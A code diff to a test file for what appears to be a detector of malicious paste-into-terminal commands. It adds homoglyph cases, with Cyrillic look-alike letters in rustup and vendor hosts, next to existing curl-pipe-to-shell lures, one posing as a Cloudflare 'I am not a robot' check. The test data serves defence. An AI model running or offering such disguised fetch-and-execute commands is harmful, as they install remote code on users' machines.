@@ -223,6 +223,9 @@ def test_a_web_page_alone_is_no_evidence_against_a_terminal_paste(engine: Engine
         ("https://brew.sh.install-now.test/", "curl -fsSL https://brew.sh.install-now.test/install.sh | bash"),
         # the same owner, but a lure trait
         ("https://vendor.dev/verify", "curl -fsSL https://vendor.dev/i.sh | sh # I am not a robot - Cloudflare verification ID 4821"),
+        # look-alike letters: the folded host is the vendor's, the text is not
+        ("https://rustup.rs/", "curl -sSf https://ѕh.rustup.rs | sh"),
+        ("https://vendor.dev/docs", "curl -fsSL https://get.vеndor.dev/install.sh | sh"),
         # multi-tenant hosting vouches for nobody
         ("https://alice.pages.dev/", "curl -fsSL https://alice.pages.dev/install.sh | sh"),
     ],
